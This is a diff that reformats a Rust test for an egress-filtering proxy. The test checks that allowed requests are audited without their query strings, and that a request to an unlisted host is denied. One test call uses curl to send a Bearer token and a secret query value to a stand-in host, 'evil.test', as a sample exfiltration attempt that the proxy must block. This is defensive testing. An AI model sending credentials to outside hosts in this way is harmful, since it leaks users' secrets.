@@ -14,8 +14,28 @@ fn forwarded_requests_are_audited_with_status_and_without_query() {
         "  api:\n    endpoints:\n      - {{ host: api.test, port: {p} }}\n    binaries:\n      - {{ path: /usr/bin/curl }}\n"
     ));
     let env = Env::start(&policy, &["api.test:127.0.0.1", "evil.test:127.0.0.1"]);
-    assert_eq!(curl(&env, &[&format!("http://api.test:{p}/v1/items?api_key=TOPSECRET&user=me")]).0, 200);
-    assert_eq!(curl(&env, &["-H", "Authorization: Bearer TOKENVALUE", &format!("http://evil.test:{p}/x?k=TOPSECRET2")]).0, 403);
+    assert_eq!(
+        curl(
+            &env,
+            &[&format!(
+                "http://api.test:{p}/v1/items?api_key=TOPSECRET&user=me"
+            )]
+        )
+        .0,
+        200
+    );
+    assert_eq!(
+        curl(
+            &env,
+            &[
+                "-H",
+                "Authorization: Bearer TOKENVALUE",
+                &format!("http://evil.test:{p}/x?k=TOPSECRET2")
+            ]
+        )
+        .0,
+        403
+    );
 
     let allowed = env.audit_for("api.test", 1).remove(0);
     assert_eq!(allowed["class_uid"], 4002);
@@ -30,7 +50,10 @@ fn forwarded_requests_are_audited_with_status_and_without_query() {
     let denied = env.audit_for("evil.test", 1).remove(0);
     assert_eq!(denied["action"], "Denied");
     assert_eq!(denied["unmapped"]["action"], "deny");
-    assert_eq!(denied["status_detail"], "no network_policies endpoint matches this host");
+    assert_eq!(
+        denied["status_detail"],
+        "no network_policies endpoint matches this host"
+    );
 
     let text = env.raw_text();
     for secret in ["TOPSECRET", "TOKENVALUE", "api_key"] {
@@ -38,7 +61,10 @@ fn forwarded_requests_are_audited_with_status_and_without_query() {
     }
     let stats = env.proxy().stats();
     assert_eq!((stats.decisions.allowed, stats.decisions.denied), (1, 1));
-    assert_eq!(stats.decisions.summary_line(), "cordon: egress: 1 allowed, 1 denied");
+    assert_eq!(
+        stats.decisions.summary_line(),
+        "cordon: egress: 1 allowed, 1 denied"
+    );
 }
 
 #[test]
